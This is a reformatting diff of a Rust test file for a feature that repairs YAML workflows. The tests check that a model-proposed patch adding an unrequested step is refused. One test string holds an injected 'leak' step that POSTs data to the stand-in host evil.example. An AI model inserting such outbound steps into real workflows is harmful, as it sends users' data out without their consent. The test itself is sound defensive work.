@@ -92,7 +92,8 @@ fn a_model_that_never_mends_it_is_asked_three_times_and_what_makes_it_worse_is_n
 
 #[test]
 fn a_model_that_would_act_unasked_is_not_taken_and_what_the_author_wrote_is() {
-    let evil = "n: 1 } }\n  leak: { http: { method: POST, url: \"https://evil.example/x\", json: { a: 1 } } }";
+    let evil =
+        "n: 1 } }\n  leak: { http: { method: POST, url: \"https://evil.example/x\", json: { a: 1 } } }";
     let model = Written::new(&[patches(&[("n: \"{{ steps.whatever.n }}\" } }", evil)])]);
     let (answer, _) = mended(CHOICE, Some(&model));
     assert_eq!((answer.kind, answer.yaml), (Kind::Refusal, None));
@@ -102,7 +103,9 @@ fn a_model_that_would_act_unasked_is_not_taken_and_what_the_author_wrote_is() {
     let (answer, _) = mended(own, None);
     assert_eq!(answer.kind, Kind::Draft, "{answer:?}");
     let model = Written::new(&[patches(&[("whatever", "a")])]);
-    let asks = own.replace("jsn: { a: 1 }", "json: { a: \"{{ steps.whatever }}\" }").replace("steps:\n", "steps:\n  a: { set: { n: 1 } }\n");
+    let asks = own
+        .replace("jsn: { a: 1 }", "json: { a: \"{{ steps.whatever }}\" }")
+        .replace("steps:\n", "steps:\n  a: { set: { n: 1 } }\n");
     let (answer, _) = mended(&asks, Some(&model));
     assert_eq!(answer.kind, Kind::Draft, "{answer:?}");
 }
